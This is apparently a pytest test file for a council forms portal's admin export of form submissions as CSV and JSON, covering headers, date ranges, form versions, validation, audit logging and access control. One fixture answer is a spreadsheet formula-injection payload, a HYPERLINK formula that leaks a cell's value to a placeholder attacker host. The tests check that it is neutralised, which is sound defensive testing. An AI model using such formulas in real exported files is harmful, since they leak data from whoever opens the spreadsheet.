"""Exports of a form's submissions for a period, as CSV and JSON, checked value by value.

Answers by question name (JSON) under the questions' wording (CSV), files by name only,
formulas neutralised, the period's ends included, every version's questions; audited,
and only for Integration managers.
"""

import csv
import io
import json
from datetime import datetime, timedelta

import pytest

from django.utils import timezone

from wagtail.models import ModelLogEntry

from forms_engine.models import Submission, Upload
from forms_engine.services import form_version_current
from portal.integrations.admin_views import SUBMISSIONS_EXPORT
from tests.accounts.factories import UserFactory, staff_in
from tests.forms_engine.factories import form_build, form_republish, question, step
from tests.portal.cases.factories import team_make
from tests.portal.integrations.factories import refused, submission_at, submission_make

pytestmark = pytest.mark.django_db

EXPORT = "/admin/integrations/export/"


def _local(year, month, day, hour=12, minute=0):
    return datetime(year, month, day, hour, minute, tzinfo=timezone.get_current_timezone())


@pytest.fixture
def form():
    return form_build(
        slug="fly-tipping",
        title="Report fly-tipping",
        reference_prefix="FLY",
        team=team_make(),
        steps=[
            step(
                "What and where",
                question("text", "where", "Where is it?"),
                question("radios", "size", "How much is there?", choices=["A bag", "A van load"]),
                question("file", "photo", "Photo of it", required=False),
            )
        ],
    )


@pytest.fixture
def world(form):
    """Three submissions in March 2026 (one on each end of the period), one before, one to another form."""
    first = submission_at(
        submission_make(
            form, {"where": "Behind the library", "size": "A bag"}, user=UserFactory(email="a@example.org")
        ),
        _local(2026, 3, 1, 0, 5),
    )
    # A file: its name is exported, never its contents.
    second = submission_make(
        form,
        {"where": '=HYPERLINK("https://evil.example/?"&A1,"Click")', "size": "A van load"},
        user=UserFactory(),
    )
    Upload.objects.create(
        submission=second,
        field_name="photo",
        file="form-uploads/2026/03/abc.jpg",
        original_name="sofa.jpg",
        content_type="image/jpeg",
        size=1000,
        sha256="0" * 64,
    )
    Submission.objects.filter(pk=second.pk).update(answers={**second.answers, "photo": "upload-id"})
    second = submission_at(second, _local(2026, 3, 15))
    last = submission_at(
        submission_make(form, {"where": "+44 Park Lane", "size": "A bag"}, user=UserFactory()),
        _local(2026, 3, 31, 23, 55),
    )
    before = submission_at(
        submission_make(form, {"where": "Too early", "size": "A bag"}, user=UserFactory()),
        _local(2026, 2, 28, 23, 59),
    )
    other = form_build(slug="graffiti", title="Report graffiti", steps=form.steps.raw_data)
    elsewhere = submission_at(
        submission_make(other, {"where": "Another form", "size": "A bag"}, user=UserFactory()),
        _local(2026, 3, 10),
    )
    return {"first": first, "second": second, "last": last, "before": before, "elsewhere": elsewhere}


@pytest.fixture
def manager():
    return staff_in("Integration managers")


@pytest.fixture
def signed_in(client, manager):
    client.force_login(manager)
    return client


def _export(client, form, fmt, start="2026-03-01", end="2026-03-31"):
    return client.post(EXPORT, {"form": form.pk, "date_from": start, "date_to": end, "format": fmt})


def test_csv_has_one_row_a_submission_with_the_questions_wording_as_headers(signed_in, form, world, manager):
    response = _export(signed_in, form, "csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="fly-tipping-submissions-2026-03-01-to-2026-03-31.csv"'
    )
    assert "no-store" in response["Cache-Control"] or "max-age=0" in response["Cache-Control"]
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == [
        "Reference",
        "Submitted at",
        "Channel",
        "Status",
        "Contact email",
        "Where is it?",
        "How much is there?",
        "Photo of it",
    ]
    first, second, last = world["first"], world["second"], world["last"]
    assert rows[1] == [
        first.case.reference,
        "2026-03-01T00:05:00+00:00",
        "Online",
        "Received",
        "a@example.org",
        "Behind the library",
        "A bag",
        "",
    ]
    # The formula is text in a spreadsheet; the file is its name.
    assert rows[2][0] == second.case.reference
    assert rows[2][5:] == ['\'=HYPERLINK("https://evil.example/?"&A1,"Click")', "A van load", "sofa.jpg"]
    assert rows[3][0] == last.case.reference and rows[3][1] == "2026-03-31T23:55:00+01:00"
    assert rows[3][5] == "'+44 Park Lane"
    assert len(rows) == 4  # not the one before the period, nor another form's

    entry = ModelLogEntry.objects.get(action=SUBMISSIONS_EXPORT)
    assert (entry.object_id, entry.user) == (str(form.pk), manager)
    assert entry.data == {"from": "2026-03-01", "to": "2026-03-31", "format": "csv", "count": 3}


def test_json_has_the_answers_keyed_by_question_name(signed_in, form, world):
    response = _export(signed_in, form, "json")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert response["Content-Disposition"].endswith('-2026-03-31.json"')
    document = json.loads(response.content)
    assert document["form"] == {"slug": "fly-tipping", "title": "Report fly-tipping"}
    assert (document["from"], document["to"]) == ("2026-03-01", "2026-03-31")
    assert document["questions"] == [
        {"name": "where", "label": "Where is it?"},
        {"name": "size", "label": "How much is there?"},
        {"name": "photo", "label": "Photo of it"},
    ]
    first, second = document["submissions"][:2]
    assert first == {
        "reference": world["first"].case.reference,
        "submitted_at": "2026-03-01T00:05:00+00:00",
        "channel": "web",
        "status": "submitted",
        "status_label": "Received",
        "contact_email": "a@example.org",
        "answers": {"where": "Behind the library", "size": "A bag"},
    }
    # JSON is data, not a spreadsheet: the answer exactly as given.
    assert second["answers"] == {
        "where": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "size": "A van load",
        "photo": "sofa.jpg",
    }
    assert [s["reference"] for s in document["submissions"]] == [
        world[key].case.reference for key in ("first", "second", "last")
    ]


def test_a_form_changed_in_the_period_has_every_versions_questions_newest_wording_first(
    signed_in, form, world
):
    form_republish(
        form,
        steps=[
            step(
                "What and where",
                question("text", "where", "Where exactly is it?"),
                question("radios", "hazard", "Is it dangerous?", choices=["Yes", "No"]),
            )
        ],
    )
    assert form_version_current(form=form).number == 2
    newer = submission_at(
        submission_make(form, {"where": "By the river", "hazard": "Yes"}, user=UserFactory()),
        _local(2026, 3, 20),
    )
    rows = list(csv.reader(io.StringIO(_export(signed_in, form, "csv").content.decode())))
    assert rows[0][5:] == ["Where exactly is it?", "Is it dangerous?", "How much is there?", "Photo of it"]
    row = next(r for r in rows if r[0] == newer.case.reference)
    assert row[5:] == ["By the river", "Yes", "", ""]
    row = next(r for r in rows if r[0] == world["first"].case.reference)
    assert row[5:] == ["Behind the library", "", "A bag", ""]


def test_the_page_defaults_to_the_last_30_days_and_explains_mistakes(signed_in, form):
    page = signed_in.get(EXPORT)
    assert page.status_code == 200
    today = timezone.localdate()
    assert f'value="{(today - timedelta(days=30)).isoformat()}"' in page.text
    assert f'value="{today.isoformat()}"' in page.text
    cases = [
        ({"form": ""}, "form", "Choose the form to export"),
        ({"date_from": ""}, "date_from", "Enter the first day of the period"),
        ({"date_from": "2026-02-30"}, "date_from", "Enter the first day as a real date, like 2026-03-01"),
        ({"date_to": "31/13/2026"}, "date_to", "Enter the last day as a real date, like 2026-03-31"),
        ({"date_to": "2026-02-01"}, "date_to", "The last day must be the same as or after the first day"),
        ({"date_to": "2027-06-01"}, "date_to", "Choose a period of a year or less"),
        ({"format": "xlsx"}, "format", "Select a valid choice"),
    ]
    for changes, field, message in cases:
        data = {
            "form": form.pk,
            "date_from": "2026-03-01",
            "date_to": "2026-03-31",
            "format": "csv",
            **changes,
        }
        page = signed_in.post(EXPORT, data)
        assert page.status_code == 400, changes
        assert message in page.text and "There is a problem" in page.text, changes
        assert f'href="#id_{field}' in page.text, changes
    assert not ModelLogEntry.objects.filter(action=SUBMISSIONS_EXPORT).exists()


def test_an_empty_period_gives_just_the_headers(signed_in, form):
    rows = list(csv.reader(io.StringIO(_export(signed_in, form, "csv").content.decode())))
    assert rows == [["Reference", "Submitted at", "Channel", "Status", "Contact email"]]


@pytest.mark.parametrize(
    "group", ["Case officers", "Service managers", "Contact centre", "Editors", "Finance"]
)
def test_other_staff_cannot_export(client, form, world, group):
    client.force_login(staff_in(group))
    assert refused(client.get(EXPORT))
    response = _export(client, form, "csv")
    assert refused(response)
    assert b"Behind the library" not in response.content
    assert not ModelLogEntry.objects.filter(action=SUBMISSIONS_EXPORT).exists()
